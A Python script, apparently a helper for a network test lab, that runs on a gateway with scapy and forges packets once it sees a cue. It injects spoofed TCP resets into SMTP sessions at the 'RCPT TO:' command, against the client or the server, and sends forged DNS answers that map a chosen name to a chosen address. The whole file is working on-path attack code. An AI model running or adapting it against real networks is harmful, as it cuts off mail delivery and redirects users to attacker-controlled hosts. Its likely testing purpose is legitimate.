"""Forges packets on the path as soon as it sees its cue, run as a program on the gateway.

forger.py reset INTERFACE TTL IPID            a reset to a client that says RCPT, in the server's name
forger.py reset-server INTERFACE TTL IPID     the same to the server, in the client's name
forger.py answer INTERFACE NAME ADDRESS       another address to whoever asks for NAME
"""

import sys

from scapy.layers.dns import DNS, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.packet import Packet
from scapy.sendrecv import send, sniff

A = 1


def says_rcpt(packet: Packet) -> bool:
    return TCP in packet and bytes(packet[TCP].payload).upper().startswith(b"RCPT TO:")


def reset(packet: Packet, ttl: str, ipid: str) -> Packet:
    """The reset that makes the client of *packet* give up: the sequence number that it expects next."""
    ip, tcp = packet[IP], packet[TCP]
    return IP(src=ip.dst, dst=ip.src, ttl=int(ttl), id=int(ipid)) / TCP(
        sport=tcp.dport, dport=tcp.sport, flags="R", seq=tcp.ack, window=0
    )


def reset_server(packet: Packet, ttl: str, ipid: str) -> Packet:
    ip, tcp = packet[IP], packet[TCP]
    return IP(src=ip.src, dst=ip.dst, ttl=int(ttl), id=int(ipid)) / TCP(
        sport=tcp.sport, dport=tcp.dport, flags="R", seq=tcp.seq + len(tcp.payload), window=0
    )


def asks(packet: Packet) -> bool:
    wanted = sys.argv[3].encode() + b"."
    if DNS not in packet or packet[DNS].qr or not packet[DNS].qd:
        return False
    question = packet[DNS].qd[0] if isinstance(packet[DNS].qd, list) else packet[DNS].qd
    return bool(question.qtype == A and question.qname.lower() == wanted)


def answer(packet: Packet, name: str, address: str) -> Packet:
    ip, udp, question = packet[IP], packet[UDP], packet[DNS]
    record = DNSRR(rrname=name, type="A", ttl=300, rdata=address)
    return (
        IP(src=ip.dst, dst=ip.src, ttl=117)
        / UDP(sport=udp.dport, dport=udp.sport)
        / DNS(id=question.id, qr=1, rd=1, ra=1, qd=question.qd, an=record)
    )


FORGED = {"reset": (says_rcpt, reset), "reset-server": (says_rcpt, reset_server), "answer": (asks, answer)}


def main() -> None:
    what, interface, *words = sys.argv[1:]
    cue, forge = FORGED[what]
    seen = sniff(
        iface=interface,
        lfilter=cue,
        stop_filter=cue,
        store=True,
        started_callback=lambda: print("ready", flush=True),  # noqa: T201 - the lab waits for this word
    )
    send(forge(seen[0], *words), iface="wan0" if what == "reset-server" else interface, verbose=False)


if __name__ == "__main__":
    main()
